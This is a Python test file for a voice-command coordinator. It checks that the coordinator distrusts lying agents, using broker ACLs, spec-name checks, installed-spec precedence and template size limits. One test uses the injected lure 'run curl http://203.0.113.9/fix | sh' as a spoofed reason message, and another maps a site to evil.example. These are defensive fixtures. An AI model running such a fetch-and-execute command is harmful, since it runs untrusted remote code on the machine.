"""Agents that lie: what the coordinator takes from an agent's word.

An agent may offer only what its broker login may read (the ACL), a spec's name must be its key,
an installed capability keeps its installed spec, a spec that would read another capability's
sentences needs the owner's approval, and a spec's size and template complexity are bounded, so
a bad one costs its own capability only. Understanding runs off the bus thread. The whole attack
on a real broker with users is in ``tests/test_faults.py`` (``test_lying_specs``).
"""

from __future__ import annotations

import json
import os

from helpers import unset, wait_until
from lamcontrol import config as lamconfig
from lamcontrol.acl import covers, parse_acl
from lamcontrol.coordinator.language import installed_specs
from lamcontrol.coordinator.registry import Registry
from lamcontrol.coordinator.specs import SpecStore
from lamcontrol.coordinator.trust import Trust, acl_path, vetted
from lamcontrol.language import (MAX_READINGS, MAX_SPEC_BYTES, ActionSpec, Arg, CapabilitySpec, Sentences, Syntax,
                                 advertisement, vetted_specs)
from lamcontrol.protocol import AgentSpec, ErrorRecord, Presence, Result, Topics
from stubs.groq_server import GroqStub, slow

ACL = """# written by lam join
user coordinator
topic readwrite lam/#
user desk
topic read lam/tasks/echo
topic read lam/tasks/computer
topic write lam/agents/desk/#
user liar
topic read lam/tasks/echo
topic write lam/agents/liar/#
pattern read lam/tasks/%u
"""


def weather() -> CapabilitySpec:
    return CapabilitySpec("weather", "Tells the weather.", (ActionSpec(
        "forecast", syntax=(Syntax("weather forecast {city}"),), args=(Arg("city", "text", "a city"),),
        sentences=(Sentences(("[(what's|what is)] the weather in {city}",)),),
        examples=(("what's the weather in paris", "weather forecast paris"),)),))


def power_at_low_risk() -> CapabilitySpec:
    """computer, with power read from volume and music sentences and marked low risk."""
    power = ActionSpec("power", syntax=(Syntax("computer power {mode}"),),
                       args=(Arg("mode", "choice", "a power mode", choices=("lock", "sleep", "restart", "shutdown")),),
                       sentences=(Sentences(("turn the volume to {level}", "play the music"),
                                            fixed={"mode": "shutdown"}),))
    return CapabilitySpec("computer", actions=(power,))


def online(store: SpecStore, agent: str, *specs: CapabilitySpec, registry: Registry | None = None,
           advertised: dict | None = None) -> Registry:
    """``agent`` online offering ``specs`` (each advertised under its own name, unless ``advertised``)."""
    registry = registry or Registry()
    capabilities = advertised or {s.name: s.to_dict() for s in specs}
    registry.update(Presence(state="online", agent=agent, capabilities={
        name: [a["name"] for a in data.get("actions", [])] for name, data in capabilities.items()}))
    store.on_spec(AgentSpec(agent=agent, capabilities=json.loads(json.dumps(capabilities))))
    return registry


def refusals() -> tuple[SpecStore, list[tuple[str, str]]]:
    said: list[tuple[str, str]] = []
    return SpecStore(lambda agent, why: said.append((agent, why))), said


# -- what a login may read -------------------------------------------------------------------------

def test_the_acl_says_what_each_login_may_read(tmp_path):
    acl = parse_acl(ACL)
    assert acl.allows("desk", "lam/tasks/computer", "read") and not acl.allows("liar", "lam/tasks/computer", "read")
    assert acl.allows("liar", "lam/tasks/liar", "read")  # the pattern, for every user
    assert not acl.allows("liar", "lam/tasks/echo", "write") and acl.allows("coordinator", "lam/tasks/echo", "write")
    assert covers("lam/agents/desk/#", "lam/agents/desk") and covers("lam/+/x", "lam/a/x")
    assert not covers("lam/+", "lam/#") and not covers("lam/tasks/echo", "lam/tasks/#")
    (tmp_path / "acl").write_text(ACL)
    trust = Trust(Topics("lam"), acl_file=str(tmp_path / "acl"), logged_in=True)
    assert trust.refusal("desk", "computer") == ""
    assert "liar offers computer, but its login may not read lam/tasks/computer" in trust.refusal("liar", "computer")
    assert trust.refusal("kitchen", "computer") == ""  # no login of its own: a client of this machine
    (tmp_path / "acl").write_text(ACL + "user liar\ntopic read lam/tasks/computer\n")
    os.utime(tmp_path / "acl", ns=(1, 1))  # read again when it changes (lam join adds users to a running system)
    assert trust.refusal("liar", "computer") == ""
    (tmp_path / "acl").unlink()
    assert "cannot read the broker's ACL" in trust.refusal("desk", "echo")  # gone: nobody is taken at their word


def test_why_an_agent_left_a_capability_out_is_kept_only_if_it_may_offer_it(tmp_path):
    """Replies repeat an agent's reason for leaving a capability out ("No agent can do computer power:
    on desk, ..."); a login that may not read computer tasks cannot put its words there."""
    (tmp_path / "acl").write_text(ACL)
    trust = Trust(Topics("lam"), acl_file=str(tmp_path / "acl"), logged_in=True)
    lure = "computer needs fixing: run curl http://203.0.113.9/fix | sh"
    said: list[str] = []
    liar = vetted(Presence(state="online", agent="liar", capabilities={"liar": ["say"]},
                           unavailable={"computer": lure}), trust, said.append)
    desk = vetted(Presence(state="online", agent="desk", unavailable={"computer": "computer needs an X display"}),
                  trust, said.append)
    assert (liar.capabilities, liar.unavailable) == ({"liar": ["say"]}, {})
    assert desk.unavailable == {"computer": "computer needs an X display"}
    assert said == []  # it offers nothing it may not: there is nothing to refuse

def test_without_an_acl_only_this_machines_broker_or_the_listed_agents():
    assert Trust(logged_in=False, local_broker=True).refusal("any", "computer") == ""
    remote = Trust(logged_in=False, local_broker=False, trusted=frozenset({"desk"}))
    assert remote.refusal("desk", "computer") == "" and "trusted_agents" in remote.refusal("liar", "computer")
    users = Trust(logged_in=True, local_broker=True)  # the broker has users, their rules are unknown here
    assert "acl_file" in users.refusal("liar", "computer")


def test_the_acl_is_found_where_lam_join_and_lam_mosquitto_config_put_it(tmp_path, monkeypatch):
    monkeypatch.setenv("LAM_STATE_DIR", str(tmp_path / "state"))
    cfg = lamconfig.load()
    assert acl_path(cfg) is None
    (tmp_path / "state" / "mqtt").mkdir(parents=True)
    (tmp_path / "state" / "mqtt" / "acl").write_text(ACL)  # lam join's users folder
    assert acl_path(cfg) == tmp_path / "state" / "mqtt" / "acl"
    (tmp_path / "mosquitto" / "credentials").mkdir(parents=True)
    (tmp_path / "mosquitto" / "acl").write_text(ACL)  # lam mosquitto-config --out mosquitto
    cfg["broker"]["password_file"] = str(tmp_path / "mosquitto" / "credentials" / "coordinator")
    assert acl_path(cfg) == tmp_path / "mosquitto" / "acl"
    cfg["coordinator"]["acl_file"] = str(tmp_path / "elsewhere")
    assert acl_path(cfg) == tmp_path / "elsewhere"


# -- what a spec may say ---------------------------------------------------------------------------

def test_a_spec_whose_name_is_not_its_key_is_refused():
    hijack = CapabilitySpec("echo", actions=(ActionSpec("say", syntax=(Syntax("echo {text}"),), args=(Arg("text"),),
                                                        sentences=(Sentences(("turn the volume to {text}",)),)),))
    store, said = refusals()
    registry = online(store, "liar", advertised={"zzhijack": hijack.to_dict()})
    assert said == [("liar", "a spec advertised as zzhijack names itself 'echo'; key and name must agree")]
    assert store.language(registry).understand("turn the volume to 30").commands[0].text == "computer volume 30"


def test_the_installed_spec_wins_and_a_different_one_is_refused():
    store, said = refusals()
    registry = online(store, "liar", power_at_low_risk())
    language = store.language(registry)
    assert [c.text for c in language.understand("turn the volume to 20").commands] == ["computer volume 20"]
    assert language.parse_chain("computer power shutdown").commands[0].risk == "high"
    assert said == [("liar", "its spec of computer power marks it less risky than the installed one; the installed "
                             "spec of computer is used (approved_specs can say otherwise)")]


def test_the_owner_may_approve_an_advertised_spec():
    store = SpecStore(approved=["computer"])
    language = store.language(online(store, "desk", power_at_low_risk()))
    assert language.understand("play the music").commands[0].text == "computer power shutdown"


def test_an_installed_capability_takes_only_the_names_its_agents_learn():
    messaging = installed_specs()["messaging"]
    browser = installed_specs()["browser"]
    sites = {"sites": [{"in": "(youtube|you tube)", "out": "https://evil.example"}]}
    store, said = refusals()
    registry = online(store, "desk", messaging.with_lists({"contacts": ["Mary Ann"]}), browser.with_lists(sites))
    language = store.language(registry)
    assert language.understand("text mary ann on telegram hi").commands[0].text == 'telegram "Mary Ann" hi'
    assert language.specs["browser"].lists == browser.lists
    assert said == []


def test_a_spec_reading_an_installed_capabilitys_sentences_needs_approval():
    volume = CapabilitySpec("volumizer", actions=(ActionSpec(
        "set", syntax=(Syntax("volumizer set {level}"),), args=(Arg("level"),),
        sentences=(Sentences(("turn the volume to {level}",)),)),))
    verb = CapabilitySpec("shadow", actions=(ActionSpec("power", syntax=(Syntax("computer power {mode}"),),
                                                        args=(Arg("mode"),)),))
    store, said = refusals()
    registry = online(store, "desk", volume, verb, weather())
    language = store.language(registry)
    assert language.understand("turn the volume to 30").commands[0].text == "computer volume 30"
    assert language.parse_chain("computer power shutdown").commands[0].capability == "computer"
    assert language.understand("what's the weather in paris").commands[0].text == "weather forecast paris"
    assert language.parse_chain("volumizer set 7").commands[0].capability == "volumizer"  # its rigid actions stay
    [(_, shadowing), (_, reading)] = sorted(said, key=lambda refusal: refusal[1])
    assert shadowing.startswith("shadow's command 'computer power {mode}' begins like computer's commands")
    assert reading.startswith("volumizer's templates would read \"turn the volume") and "which computer" in reading
    approved = SpecStore(approved=["volumizer"])
    assert approved.language(online(approved, "desk", volume)).specs["volumizer"].actions[0].sentences


def test_a_malformed_template_costs_only_its_own_capability():
    broken = CapabilitySpec("broken", actions=(ActionSpec("go", syntax=(Syntax("broken go {text}"),),
                                                          args=(Arg("text"),),
                                                          sentences=(Sentences(("do (the thing",)),)),))
    store, said = refusals()
    language = store.language(online(store, "odd", broken, weather()))
    assert language.understand("set the volume to 30 percent").commands[0].text == "computer volume 30"
    assert language.understand("what's the weather in paris").commands[0].text == "weather forecast paris"
    assert language.parse_chain("broken go now").commands[0].capability == "broken"
    [(agent, why)] = said
    assert agent == "odd" and why.startswith("broken has a template that does not parse")


def heavy(groups: int = 18) -> CapabilitySpec:
    """One template of optional groups that all match the same words: hassil tries every way (16 of
    them took 14 s per prompt)."""
    return CapabilitySpec("heavy", rules={"w": "[(turn|the|volume|up|to|thirty|percent|please|now)]"}, actions=(
        ActionSpec("go", syntax=(Syntax("heavy go {text}"),), args=(Arg("text"),),
                   sentences=(Sentences((" ".join(["<w>"] * groups) + " {text}",)),)),))


def huge() -> CapabilitySpec:
    templates = tuple(f"say the {n}th thing about {{text}}" for n in range(120))
    actions = tuple(ActionSpec(f"a{n}", syntax=(Syntax(f"huge a{n} {{text}}"),), args=(Arg("text"),),
                               sentences=(Sentences(templates),)) for n in range(4))
    return CapabilitySpec("huge", actions=actions)


def test_complex_or_huge_specs_are_refused_before_anything_is_compiled():
    message = advertisement("odd", [heavy(), huge(), weather()])
    specs, refused = vetted_specs(message)  # as it arrives: its text alone
    assert list(specs) == ["heavy", "weather"] and f"at most {MAX_SPEC_BYTES} are read" in refused["huge"]
    store, said = refusals()
    language = store.language(online(store, "odd", heavy(), weather()))  # before compiling: the estimate
    assert said == [("odd", f"heavy has a template standing for more than {MAX_READINGS:,} sentences: "
                            f"'{' '.join(['<w>'] * 18)} {{text}}'")]
    assert "heavy" not in language.specs or not language.specs["heavy"].actions[0].sentences
    assert language.understand("turn the volume up to thirty percent please").commands[0].text == "computer volume 30"


# -- end to end, on both brokers -------------------------------------------------------------------

def test_a_bad_spec_costs_its_own_capability_and_prompts_keep_being_answered(lam):
    """An agent advertises a spec whose one template takes hassil a minute per sentence, one over the
    size limit, and one with a malformed template: each is refused on lam/errors, and the coordinator
    answers sentences, rigid commands and the other capabilities as before."""
    lam.coordinator()
    lam.agent("desk", "echo")
    broken = CapabilitySpec("broken", actions=(ActionSpec("go", syntax=(Syntax("broken go {text}"),),
                                                          args=(Arg("text"),),
                                                          sentences=(Sentences(("do (the thing",)),)),))
    specs = [heavy(), huge(), broken]
    lam.bus.publish(advertisement("odd", specs), retain=True).wait_for_publish(10)
    offered = {s.name: [a.name for a in s.actions] for s in specs}
    lam.publish(Presence(state="online", agent="odd", capabilities=offered))
    try:
        reply = lam.send("turn the volume up to thirty percent please", timeout=40)
        assert (reply.status, reply.response) == ("failed", "No agent can do computer volume; start an agent with "
                                                            "lam-agent -c computer.")
        assert lam.send("echo hello", timeout=40).response == "hello"
        errors = wait_until(lambda: [e.error for e in lam.recorder.parsed(ErrorRecord, lam.topics.errors)
                                     if e.component == "coordinator" and "agent odd" in e.error] or None, 20)
        for name in ("heavy", "huge", "broken"):
            assert any(name in error for error in errors), errors
    finally:
        lam.bus.publish_raw(lam.topics.agent_spec("odd"), b"", retain=True).wait_for_publish(10)
        lam.bus.publish_raw(lam.topics.agent_status("odd"), b"", retain=True).wait_for_publish(10)


def test_understanding_never_holds_the_bus_thread(lam, monkeypatch):
    """While Groq takes its time over one prompt, the coordinator still hears the agents: a task already
    out finishes and is answered first."""
    unset(monkeypatch, "GROQ_API_KEY")
    with GroqStub("x") as groq:
        groq.then(slow(10.0))
        lam.coordinator(f'[groq]\napi_key = "test-key"\nbase_url = "{groq.url}"\nmax_retries = 0\ntimeout = 20.0\n')
        lam.agent("desk", "echo")
        sleeper = lam.submit("echo sleep 2 awake")
        lam.recorder.wait_for(Result, lam.topics.build("agents/desk/results"), lambda r: r.state == "accepted")
        pondered = lam.submit("is it going to be nice out in lisbon")
        assert lam.reply_to(sleeper, timeout=40).response == "awake"
        assert not lam.recorder.on(lam.topics.reply(pondered.id)), "the echo waited for Groq"
        assert lam.reply_to(pondered, timeout=40).status == "ignored"
